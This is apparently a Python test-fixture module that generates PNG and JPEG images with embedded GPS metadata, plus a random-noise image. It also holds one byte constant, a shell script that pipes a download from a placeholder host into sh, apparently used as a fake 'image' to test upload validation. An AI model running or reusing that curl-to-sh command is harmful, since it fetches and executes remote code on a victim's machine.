"""Test images: real photos with metadata, and things that only pretend to be photos."""

import io

from PIL import ExifTags, Image
from PIL.PngImagePlugin import PngInfo


def _exif_gps():
    exif = Image.Exif()
    exif[0x010F] = "KameraUji"  # Make
    exif[ExifTags.IFD.GPSInfo] = {1: "S", 2: (7.0, 45.0, 0.0), 3: "E", 4: (110.0, 0.0, 0.0)}
    return exif.tobytes()


def png_dengan_gps(ukuran=(64, 48)):
    img = Image.new("RGB", ukuran, (200, 30, 30))
    info = PngInfo()
    info.add_text("Lokasi", "-7.75, 110.00")
    buf = io.BytesIO()
    img.save(buf, "PNG", exif=_exif_gps(), pnginfo=info)
    return buf.getvalue()


def jpeg_dengan_gps(ukuran=(64, 48)):
    img = Image.new("RGB", ukuran, (30, 120, 200))
    buf = io.BytesIO()
    img.save(buf, "JPEG", exif=_exif_gps())
    return buf.getvalue()


def gambar_acak(ukuran, format="PNG"):
    """A noisy image: does not compress, so its file size follows its pixel count."""
    import os

    img = Image.frombytes("RGB", ukuran, os.urandom(ukuran[0] * ukuran[1] * 3))
    buf = io.BytesIO()
    img.save(buf, format)
    return buf.getvalue()


SKRIP = b"#!/bin/sh\ncurl http://contoh.invalid/x | sh\n"
